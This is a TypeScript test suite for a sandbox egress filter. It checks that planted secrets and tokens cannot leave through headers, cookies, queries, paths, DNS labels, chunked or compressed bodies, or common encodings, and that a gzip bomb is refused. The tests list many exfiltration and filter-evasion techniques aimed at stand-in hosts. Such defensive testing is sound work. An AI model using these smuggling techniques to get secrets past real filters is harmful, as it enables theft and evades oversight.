// Attempts to carry known secrets out through hosts that are granted: the bottle's canary, a value that the operator gave to
// the guest, and a token that the guest should not even know; in every place of a request and under common encodings.
import {
  brotliCompressSync,
  deflateRawSync,
  deflateSync,
  gzipSync,
  zstdCompressSync,
} from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Mode, modesHere } from "../support/attack-world.ts";
import {
  type Attempt,
  type EgressAttack,
  openEgressAttack,
  PLANTED,
  request,
  TOKENS,
} from "../support/egress-attack.ts";
import { requires } from "../support/requires.ts";

type Secret = "canary" | "given" | "token";
const SECRETS: readonly Secret[] = ["canary", "given", "token"];

const percent = (text: string): string =>
  [...Buffer.from(text, "latin1")].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
const base64 = (text: string): string => Buffer.from(text, "latin1").toString("base64");
const escaped = (text: string): string =>
  Array.from(text, (it) => `\\u${it.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
const hex = (text: string): string => Buffer.from(text, "latin1").toString("hex");

/** Encodings of a value that hide it from a search for its bytes. */
// biome-ignore format: one attempt a line
const ENCODINGS: Readonly<Record<string, (secret: string) => string>> = {
  plain: (secret) => secret,
  "in the middle of text": (secret) => `${"lorem ipsum ".repeat(50)}${secret}${" dolor sit amet".repeat(50)}`,
  "base64, alignment 0": (secret) => base64(secret),
  "base64, alignment 1": (secret) => base64(`a${secret}`),
  "base64, alignment 2": (secret) => base64(`ab${secret}`),
  "base64 of JSON": (secret) => base64(JSON.stringify({ notes: ["x", { value: secret }] })),
  "base64url without padding": (secret) => Buffer.from(`user:${secret}`, "latin1").toString("base64url"),
  "base64 in lines of 76": (secret) => base64(`${"padding ".repeat(20)}${secret}`).replace(/.{76}/g, "$&\r\n"),
  "base64 twice": (secret) => base64(base64(secret)),
  hex: (secret) => hex(secret),
  "hex in capitals": (secret) => hex(secret).toUpperCase(),
  "percent, each byte": (secret) => percent(secret),
  "percent twice": (secret) => percent(percent(secret)),
  "percent of base64": (secret) => percent(base64(secret)),
  "JSON string": (secret) => JSON.stringify({ value: secret }),
  "JSON string, each character escaped": (secret) => `{"value":"${escaped(secret)}"}`,
  "form field": (secret) => `a=1&value=${encodeURIComponent(secret)}&b=2`,
  "hex in JSON": (secret) => JSON.stringify({ value: hex(secret) }),
  "multipart field": (secret) => `--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n${secret}\r\n--x--\r\n`,
  "UTF-8 with a byte order mark": (secret) => `\xef\xbb\xbf${secret}`,
};

const COMPRESSIONS: Readonly<Record<string, (body: Buffer) => Buffer>> = {
  gzip: gzipSync,
  "x-gzip": gzipSync,
  deflate: deflateSync,
  "deflate ": deflateRawSync,
  br: brotliCompressSync,
  zstd: zstdCompressSync,
  "gzip, gzip": (body) => gzipSync(gzipSync(body)),
};

const HOST = "open.attack.test";
const FOUND = { status: 403, reason: "secret-found" } as const;
const through = (bytes: Attempt["bytes"], host: string = HOST): Attempt => ({
  tunnel: { authority: `${host}:443` },
  bytes,
});
const upload = (body: string, ...lines: string[]): Attempt =>
  through(request("POST", "/notes", HOST, lines, body));
const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`;
const chunked = (host: string): string =>
  `POST /notes HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n`;

/** Places outside of the body. The value must stand there as such a place allows. */
// biome-ignore format: one attempt a line
const PLACES: Readonly<Record<string, (secret: string) => Attempt>> = {
  "a header": (secret) => through(request("GET", "/", HOST, [`X-Note: ${secret}`])),
  "a header in base64": (secret) => through(request("GET", "/", HOST, [`X-Note: ${base64(`n:${secret}`)}`])),
  "a cookie": (secret) => through(request("GET", "/", HOST, [`Cookie: a=1; session=${encodeURIComponent(secret)}; b=2`])),
  "Basic credentials": (secret) => through(request("GET", "/", HOST, [`Authorization: Basic ${base64(`me:${secret}`)}`])),
  "the user agent": (secret) => through(request("GET", "/", HOST, [`User-Agent: probe (${secret})`])),
  "the referrer": (secret) => through(request("GET", "/", HOST, [`Referer: https://${HOST}/?q=${encodeURIComponent(secret)}`])),
  "two headers of one name": (secret) => through(request("GET", "/", HOST, ["X-Note: first", `X-Note: ${secret}`])),
  "the query": (secret) => through(request("GET", `/?q=${encodeURIComponent(secret)}`, HOST)),
  "the query in base64": (secret) => through(request("GET", `/?q=${encodeURIComponent(base64(secret))}`, HOST)),
  "the query in hex": (secret) => through(request("GET", `/?q=${hex(secret)}`, HOST)),
  "the name of a query field": (secret) => through(request("GET", `/?${percent(secret)}=1`, HOST)),
  "the path in hex": (secret) => through(request("GET", `/files/${hex(secret)}/x`, HOST)),
  "the path in base64url": (secret) => through(request("GET", `/files/${Buffer.from(secret).toString("base64url")}`, HOST)),
  "the path of plain http": (secret) => ({ bytes: request("GET", `http://plain.attack.test/${hex(secret)}`, "plain.attack.test") }),
  "a header of plain http": (secret) => ({ bytes: request("GET", "http://plain.attack.test/", "plain.attack.test", [`X-Note: ${secret}`]) }),
  "the body of plain http": (secret) => ({ bytes: request("POST", "http://plain.attack.test/", "plain.attack.test", [], secret) }),
  "the body for the provider of the token itself": (secret) => through(request("POST", "/", "api.attack.test", [], secret), "api.attack.test"),
};

describe.each(modesHere())(
  "secrets in a bottle that %s owns",
  requires("bwrap", "userns"),
  (mode: Mode) => {
    let attack: EgressAttack;
    beforeAll(async () => {
      attack = await openEgressAttack(mode);
    });
    afterAll(() => attack?.[Symbol.asyncDispose]());
    const value = (secret: Secret): string =>
      ({ canary: attack.canary, given: PLANTED, token: TOKENS.API_TOKEN })[secret];

    it("lets the same requests pass without them", async () => {
      await attack.allowed(upload("notes without a secret"));
      await attack.allowed(
        upload(gzipSync("notes without a secret").toString("latin1"), "Content-Encoding: gzip"),
      );
      await attack.allowed(
        through(`${chunked(HOST)}${chunk("notes ")}${chunk("in pieces")}0\r\n\r\n`),
      );
      for (const place of Object.values(PLACES)) await attack.allowed(place("nothing"));
      expect(attack.canary).toMatch(/^[\w-]{24,}$/);
      expect(attack.env["PLANTED"]).toBe(PLANTED);
    });

    describe.each(SECRETS)("%s", (secret) => {
      it.each(Object.keys(ENCODINGS))("does not leave in a body as %s", async (encoding) => {
        await attack.refused(upload(ENCODINGS[encoding]!(value(secret))), FOUND);
      });

      it.each(Object.keys(PLACES))("does not leave in %s", async (place) => {
        await attack.refused(PLACES[place]!(value(secret)), FOUND);
      });

      it.each(Object.keys(COMPRESSIONS))("does not leave in a body under %s", async (coding) => {
        const body = COMPRESSIONS[coding]!(Buffer.from(`notes: ${value(secret)}`)).toString(
          "latin1",
        );
        await attack.refused(upload(body, `Content-Encoding: ${coding.trim()}`), FOUND);
      });

      it("does not leave in chunks, whatever their borders", async () => {
        const text = value(secret);
        for (const size of [1, 3, 7]) {
          const pieces = text.match(new RegExp(`[^]{1,${size}}`, "g")) ?? [];
          await attack.refused(through([chunked(HOST), ...pieces.map(chunk), "0\r\n\r\n"]), FOUND);
        }
      });

      it("does not leave in pieces of base64 over chunks", async () => {
        const text = base64(`notes: ${value(secret)}`);
        await attack.refused(
          through([chunked(HOST), ...(text.match(/.{1,11}/g) ?? []).map(chunk), "0\r\n\r\n"]),
          FOUND,
        );
      });

      it("does not leave behind the end of a compressed body", async () => {
        const body = Buffer.concat([gzipSync("harmless"), Buffer.from(value(secret))]).toString(
          "latin1",
        );
        const { text } = await attack.send(upload(body, "Content-Encoding: gzip"));
        expect(text).toMatch(/^HTTP\/1\.1 403 .*\r\n[^]*egress: (secret-found|undecodable-body): /);
      });

      it("does not leave in a trailer", async () => {
        const before = attack.sink.arrived.length;
        await attack.send(
          through(`${chunked(HOST)}${chunk("harmless")}0\r\nX-Note: ${value(secret)}\r\n\r\n`),
        );
        for (const { headers, body } of attack.sink.arrived.slice(before)) {
          expect(JSON.stringify(headers) + body.toString("latin1")).not.toContain(value(secret));
        }
      });

      it("does not leave at the end of a long body, which the server never gets whole", async () => {
        const { sink } = attack;
        const before = sink.arrived.length;
        const filler = "The quick brown fox jumps over the lazy dog. ".repeat(50_000);
        const body = `${filler}${value(secret)}${filler.slice(0, 1000)}`;
        const { text = "" } = await attack.send({ ...upload(body), waitMs: 10_000 });
        expect(text).toMatch(/egress: secret-found: /);
        expect(sink.arrived.length).toBe(before);
        expect(attack.world.audit().at(-1)).toMatchObject({
          verdict: "deny",
          reason: "secret-found",
        });
        attack.expectNoSecret(text);
      });

      it("does not leave as the name of a host, and is not in the log of the refusal", async () => {
        for (const label of [
          value(secret).replace(/[^\w-]/g, "x"),
          hex(value(secret)).slice(0, 63),
          base64(value(secret))
            .replace(/[^\w-]/g, "")
            .slice(0, 63),
        ]) {
          const { text = "" } = await attack.send({
            tunnel: { authority: `${label}.evil.attack.test:443` },
            bytes: "",
          });
          expect(text).toMatch(/^HTTP\/1\.1 4\d\d /);
        }
        attack.expectNoSecret("");
      });

      it("is masked for a host that asks for that, and the rest arrives", async () => {
        const { sink } = attack;
        const host = "redact.attack.test";
        const body = JSON.stringify({ notes: "keep this", value: value(secret) });
        await attack.allowed(through(request("POST", "/notes", host, [], body), host));
        const arrived = sink.arrived.at(-1)?.body.toString("latin1") ?? "";
        expect(arrived).toContain("keep this");
        expect(arrived).not.toContain(JSON.stringify(value(secret)).slice(1, -1));
        expect(attack.world.audit().at(-1)).toMatchObject({ verdict: "redact" });
        attack.expectNoSecret("");
      });
    });

    it.each([
      ["a content encoding that nobody knows", "compress"],
      ["a content encoding that is a lie", "gzip"],
      ["four layers of encoding", "gzip, gzip, gzip, gzip"],
    ])("refuses a body under %s", async (_name, coding) => {
      const layers = coding.split(", ").length;
      let body: Buffer = Buffer.from("harmless");
      for (let layer = 0; layer < (layers === 4 ? 4 : 0); layer += 1) body = gzipSync(body);
      await attack.refused(upload(body.toString("latin1"), `Content-Encoding: ${coding}`), {
        status: 403,
        reason: "undecodable-body",
      });
    });

    it("refuses a compressed bomb at little cost", async () => {
      const bomb = gzipSync(Buffer.alloc(64 << 20)).toString("latin1");
      const began = performance.now();
      await attack.refused(upload(bomb, "Content-Encoding: gzip"), {
        status: 403,
        reason: "undecodable-body",
      });
      expect(performance.now() - began).toBeLessThan(3000);
    });

    it("knows its own placeholders, which are free to travel in bodies", async () => {
      await attack.allowed(upload(`my key is ${attack.env["API_TOKEN"]}`));
    });

    it("has put none of them into its log", () => attack.expectNoSecret(""));
  },
);
